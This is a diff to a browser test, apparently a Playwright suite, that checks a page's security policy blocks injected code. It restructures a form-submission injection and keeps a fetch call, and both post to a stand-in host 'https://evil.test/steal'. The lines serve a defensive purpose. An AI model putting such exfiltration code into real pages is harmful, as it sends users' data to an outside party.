@@ -172,12 +172,6 @@ const injections: Record<string, () => void> = {
   "a connection to another host": () => {
     void fetch("https://evil.test/steal").catch(() => undefined);
   },
-  "a form to another host": () => {
-    const form = document.createElement("form");
-    form.action = "https://evil.test/steal";
-    document.body.append(form);
-    form.submit();
-  },
 };
 
 test("the policy blocks what is injected into a page", async ({ page }) => {
@@ -199,5 +193,13 @@ test("the policy blocks what is injected into a page", async ({ page }) => {
   }
   expect(await page.title()).toBe(title);
   await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+  const refused = page.waitForEvent("console", (message) => message.text().includes("form-action"));
+  await page.evaluate(() => {
+    const form = document.createElement("form");
+    form.action = "https://evil.test/steal";
+    document.body.append(form);
+    form.submit();
+  });
+  await refused;
   expect(requested).toEqual([]);
 });
